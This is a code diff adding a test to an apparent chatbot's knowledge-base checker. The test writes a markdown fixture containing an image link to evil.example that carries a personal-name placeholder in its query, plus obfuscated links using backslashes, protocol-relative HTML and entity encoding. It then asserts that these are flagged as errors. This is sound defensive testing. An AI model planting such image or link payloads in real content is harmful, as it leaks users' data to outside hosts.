@@ -212,3 +212,24 @@ async def test_excerpts_without_a_model_pass_the_same_check(tmp_path) -> None:
     assert result.status == Status.answered_excerpts
     assert "rendez-vous en mairie" in result.answer
     assert "evil.example" not in result.answer and "<img" not in result.answer
+
+
+def test_kb_check_rejects_images_and_links_to_unofficial_sites(tmp_path) -> None:
+    from chatbot.knowledge.check import check
+
+    folder = tmp_path / "knowledge" / "public"
+    folder.mkdir(parents=True)
+    (folder / "piege.md").write_text(
+        "---\ntitle: Piège\nsummary: Un piège.\n"
+        f"source_url: {SOURCE}\nupdated: 2026-11-01\ntags: [x]\nlicence: Test\n---\n"
+        "Texte ![x](<//evil.example/a.png?who=<NOM_1>>).\n"
+        "Voir [ici](https:\\\\evil.example/p), [là][r], <a href='//evil.example'>a</a>.\n"
+        "Et [la fiche officielle](https://www.impots.gouv.fr/particulier).\n\n"
+        "[r]: &#104;ttps://evil.example/r\n",
+        encoding="utf-8",
+    )
+    problems = [p for p in check(tmp_path / "knowledge") if p.severity == "error"]
+    assert {p.line for p in problems} == {9, 10, 13}, problems
+    assert any("image" in p.message for p in problems if p.line == 9)
+    assert all("official" in p.message or "image" in p.message for p in problems)
+    assert all(p.hint for p in problems)
